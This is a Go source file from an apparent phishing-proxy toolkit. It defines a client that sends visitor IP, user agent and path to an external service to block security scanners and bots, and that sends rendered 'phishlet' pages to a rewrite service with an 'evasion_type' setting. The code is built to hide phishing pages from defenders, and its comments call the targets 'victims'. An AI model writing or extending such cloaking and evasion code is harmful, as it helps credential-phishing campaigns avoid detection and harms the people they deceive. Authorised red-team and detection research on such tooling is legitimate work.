package core

import (
	"context"
	"fmt"
	"time"

	"github.com/go-resty/resty/v2"

	"github.com/snarelabs/snare/log"
)

const defaultAITimeout = 3 * time.Second

// RequestMetadata is the request summary sent to the classifier service.
type RequestMetadata struct {
	IP        string `json:"ip"`
	UserAgent string `json:"user_agent"`
	Host      string `json:"host"`
	Path      string `json:"path"`
	Method    string `json:"method"`
}

type Classification struct {
	IsScanner         bool    `json:"is_scanner"`
	IsBot             bool    `json:"is_bot"`
	Confidence        float64 `json:"confidence"`
	Reasoning         string  `json:"reasoning"`
	RecommendedAction string  `json:"recommended_action"`
}

type Modification struct {
	ModifiedContent string   `json:"modified_content"`
	ChangesMade     []string `json:"changes_made"`
}

// AIClient talks to the external traffic-classification and content-rewrite
// service. Every call carries a deadline and fails open: a dead or slow
// service never blocks or breaks the victim-facing pipeline.
type AIClient struct {
	rc            *resty.Client
	enabled       bool
	modifyEnabled bool
	threshold     float64
}

func NewAIClient(cfg *AIConfig) *AIClient {
	timeout := defaultAITimeout
	if cfg.TimeoutMs > 0 {
		timeout = time.Duration(cfg.TimeoutMs) * time.Millisecond
	}
	rc := resty.New().
		SetBaseURL(cfg.Endpoint).
		SetTimeout(timeout).
		SetHeader("Content-Type", "application/json")
	if cfg.ApiKey != "" {
		rc.SetAuthToken(cfg.ApiKey)
	}
	return &AIClient{
		rc:            rc,
		enabled:       cfg.Enabled && cfg.Endpoint != "",
		modifyEnabled: cfg.ModifyEnabled,
		threshold:     cfg.BlockThreshold,
	}
}

func (c *AIClient) Classify(ctx context.Context, md *RequestMetadata) (*Classification, error) {
	var out Classification
	resp, err := c.rc.R().
		SetContext(ctx).
		SetBody(md).
		SetResult(&out).
		Post("/classify")
	if err != nil {
		return nil, err
	}
	if resp.IsError() {
		return nil, fmt.Errorf("classifier returned %s", resp.Status())
	}
	return &out, nil
}

// ShouldBlock consults the classifier before routing. Timeouts and errors
// are treated as allow.
func (c *AIClient) ShouldBlock(ctx context.Context, md *RequestMetadata) bool {
	if !c.enabled {
		return false
	}
	cl, err := c.Classify(ctx, md)
	if err != nil {
		log.Debug("classifier unavailable, allowing request: %v", err)
		return false
	}
	if cl.RecommendedAction != "block" {
		return false
	}
	if cl.Confidence < c.threshold {
		log.Debug("classifier verdict below threshold (%.2f < %.2f): %s", cl.Confidence, c.threshold, cl.Reasoning)
		return false
	}
	log.Warning("classifier blocked %s: %s (%.2f)", md.IP, cl.Reasoning, cl.Confidence)
	return true
}

// Modify sends rendered content to the rewrite service. On any failure the
// original content comes back untouched.
func (c *AIClient) Modify(ctx context.Context, content []byte, phishlet string, evasion string) ([]byte, bool) {
	if !c.enabled || !c.modifyEnabled {
		return content, false
	}
	var out Modification
	resp, err := c.rc.R().
		SetContext(ctx).
		SetBody(map[string]string{
			"content":      string(content),
			"phishlet_id":  phishlet,
			"evasion_type": evasion,
		}).
		SetResult(&out).
		Post("/modify")
	if err != nil || resp.IsError() || out.ModifiedContent == "" {
		return content, false
	}
	log.Debug("content modifier applied %d change(s)", len(out.ChangesMade))
	return []byte(out.ModifiedContent), true
}
